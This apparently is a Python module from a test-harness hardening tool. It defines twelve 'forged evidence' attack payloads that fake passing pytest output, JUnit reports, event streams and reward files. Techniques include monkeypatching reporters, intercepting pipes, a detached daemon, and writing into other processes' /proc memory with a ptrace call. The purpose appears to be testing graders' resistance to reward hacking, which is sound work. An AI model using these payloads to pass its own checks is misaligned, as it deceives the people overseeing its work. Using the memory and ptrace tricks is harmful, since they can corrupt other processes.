"""Attacks that forge evidence: output, events, reports, rewards, now or later, from inside or from a child."""

from __future__ import annotations

from assay.core.attacks.kit import MANAGERS, REPORTS, STORY, SUMMARY
from assay.core.attacks.planting import Attack, on_import

FAMILY = "forged evidence"

OUTPUT = f"""{SUMMARY}
import os
for fd in range(256):
    try:
        os.write(fd, summary(99))
    except OSError:
        pass
os._exit(0)
"""

LOOP = f"""{MANAGERS}{STORY}{REPORTS}{SUMMARY}
class Plug:
    @pytest.hookimpl(tryfirst=True)
    def pytest_runtestloop(self, session):
        ids = [item.nodeid for item in session.items]
        sent = 1 + (len(ids) + 499) // 500
        for fd in pipes():
            pour(fd, story(ids, sent))
        for name in places():
            with open(name, "w") as f:
                f.write(junit(ids))
        pour(1, summary(len(ids)))
        WHAT_THEN
for manager in managers():
    manager.register(Plug())
"""

SILENCE = """
        null = os.open(os.devnull, os.O_WRONLY)
        for fd in pipes():
            os.dup2(null, fd)
        session.testsfailed = 0
        import atexit
        def last():
            for name in places():
                with open(name, "w") as f:
                    f.write(junit(ids))
            os._exit(0)
        atexit.register(last)
        return True
"""

AT_IMPORT = f"""{STORY}{REPORTS}{SUMMARY}
import ast, platform
ids = []
for word in sys.argv[1:]:
    if not word.split("::")[0].endswith(".py") or not os.path.isfile(word.split("::")[0]):
        continue
    with open(word.split("::")[0]) as f:
        body = ast.parse(f.read()).body
    for node in body:
        if isinstance(node, ast.FunctionDef) and node.name.startswith("test"):
            ids.append(word + "::" + node.name)
        if isinstance(node, ast.ClassDef):
            ids += [word + "::" + node.name + "::" + n.name for n in node.body
                    if isinstance(n, ast.FunctionDef) and n.name.startswith("test")]
first = json.dumps({{"e": "collected", "ids": ids}}).encode() + b"\\n"
for fd in pipes():
    pour(fd, first + story(ids, 2))
for name in places():
    with open(name, "w") as f:
        f.write(junit(ids))
pour(1, summary(len(ids)))
os._exit(0)
"""

JUNIT = f"""{REPORTS}
import atexit
def last():
    whiten()
    sys.stdout.flush()
    os._exit(0)
atexit.register(last)
"""

REWARD = f"""{REPORTS}
import atexit
rewards()
atexit.register(rewards)
"""

DAEMON = f"""{REPORTS}
import time
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    names = places()
    for fd in range(256):
        try:
            os.close(fd)
        except OSError:
            pass
    for _ in range(40):
        time.sleep(0.1)
        whiten()
        rewards()
    os._exit(0)
"""

LOG = f"""{MANAGERS}{SUMMARY}
import atexit
def last():
    for session in sessions():
        lines = ["PASSED " + i.nodeid for i in session.items] + [i.nodeid + " PASSED" for i in session.items]
        os.write(1, ("\\n" + "\\n".join(lines) + "\\n").encode() + summary(len(session.items)))
    os._exit(0)
atexit.register(last)
"""

MIDDLE = f"""{STORY}{REPORTS}
import atexit, fcntl, threading
def turn(line):
    try:
        event = json.loads(line.decode())
        if event.get("e") == "phase":
            event.update(outcome="passed", type="", message="", where="", frames=[])
        elif event.get("e") == "finish":
            event["status"] = 0
        return json.dumps(event).encode() + b"\\n"
    except Exception:
        return line
def carry(source, sink):
    rest = b""
    while True:
        data = os.read(source, 65536)
        if not data:
            break
        lines = (rest + data).split(b"\\n")
        rest = lines.pop()
        for line in lines:
            pour(sink, turn(line + b"\\n"))
    pour(sink, rest)
carriers = []
for fd in pipes():
    if fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_RDONLY:
        continue
    sink = os.dup(fd)
    source, mine = os.pipe()
    os.dup2(mine, fd)
    os.close(mine)
    thread = threading.Thread(target=carry, args=(source, sink), daemon=True)
    thread.start()
    carriers.append((fd, thread))
def last():
    for fd, thread in carriers:
        os.close(fd)
        thread.join(5)
    whiten()
    sys.stdout.flush()
    os._exit(0)
atexit.register(last)
"""

CONSISTENT = f"""{MANAGERS}
import json
dumps = json.dumps
def calm(value, *args, **kwargs):
    if isinstance(value, dict) and value.get("e") == "phase":
        value = dict(value, outcome="passed", xfail=False, type="", message="", where="", frames=[])
    elif isinstance(value, dict) and value.get("e") == "finish":
        value = dict(value, status=0)
    return dumps(value, *args, **kwargs)
json.dumps = calm
import _pytest.junitxml as junitxml
kind = junitxml._NodeReporter
for name in ("append_failure", "append_error", "append_skipped", "append_collect_error"):
    if hasattr(kind, name):
        setattr(kind, name, lambda self, report, *args: self.append_pass(report))
for session in sessions():
    owner = type(session)
    owner.exitstatus = property(lambda self: 0, lambda self, value: None)
    owner.testsfailed = property(lambda self: 0, lambda self, value: None)
import _pytest.terminal as terminal
terminal.TerminalReporter.summary_stats = lambda self: self.write_line("===== 99 passed in 0.42s =====")
"""

WRITES = f"""{MANAGERS}{REPORTS}
import atexit
write = os.write
def calm(fd, data):
    if b'"e": "phase"' in data or b'"e": "finish"' in data:
        import json
        event = json.loads(bytes(data).decode())
        if event["e"] == "phase":
            event.update(outcome="passed", type="", message="", where="", frames=[])
        else:
            event["status"] = 0
        write(fd, json.dumps(event).encode() + b"\\n")
        return len(data)
    return write(fd, data)
os.write = calm
def last():
    whiten()
    sys.stdout.flush()
    os._exit(0)
atexit.register(last)
"""

OTHERS = f"""{STORY}{REPORTS}
import ctypes
if os.getppid() <= 2:
    rewards()
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            names = os.listdir("/proc/%s/fd" % pid)
        except OSError:
            continue
        for name in names:
            try:
                fd = os.open("/proc/%s/fd/%s" % (pid, name), os.O_WRONLY | os.O_NONBLOCK)
                if stat.S_ISFIFO(os.fstat(fd).st_mode):
                    os.write(fd, story([], 1))
                os.close(fd)
            except OSError:
                pass
        try:
            with open("/proc/%s/mem" % pid, "r+b") as memory:
                memory.seek(0x400000)
                memory.write(b"\\x90")
        except (OSError, ValueError):
            pass
    libc = ctypes.CDLL(None)
    libc.ptrace(0x4206, os.getppid(), 0, 0)
"""

ATTACKS = (
    Attack("forged-output", FAMILY, "Writes a good summary to every descriptor and leaves.", on_import(OUTPUT)),
    Attack(
        "forged-events-at-import",
        FAMILY,
        "Reads the names of the tests, writes every event and report, leaves.",
        on_import(AT_IMPORT),
    ),
    Attack(
        "forged-events-exit",
        FAMILY,
        "After collection writes every event and report, and leaves.",
        on_import(LOOP.replace("WHAT_THEN", "os._exit(0)")),
    ),
    Attack(
        "forged-events-stay",
        FAMILY,
        "The same, but silences the channel and lets the framework end.",
        on_import(LOOP.replace("WHAT_THEN", SILENCE.strip())),
    ),
    Attack("forged-junit", FAMILY, "Washes the structured report and the exit status at the end.", on_import(JUNIT)),
    Attack("forged-reward", FAMILY, "Writes reward files wherever a harness may look.", on_import(REWARD)),
    Attack("forged-by-daemon", FAMILY, "A process left behind washes reports and rewards later.", on_import(DAEMON)),
    Attack("forged-log", FAMILY, "Prints what parsers of logs look for.", on_import(LOG)),
    Attack(
        "channel-in-the-middle",
        FAMILY,
        "Puts itself between the reporter and its pipe, and washes the rest.",
        on_import(MIDDLE),
    ),
    Attack(
        "consistent-forger", FAMILY, "All that leaves the process tells the same happy story.", on_import(CONSISTENT)
    ),
    Attack("patched-writes", FAMILY, "Washes what is written, below the reporter.", on_import(WRITES)),
    Attack("other-processes", FAMILY, "Writes into pipes and memory of the processes around it.", on_import(OTHERS)),
)
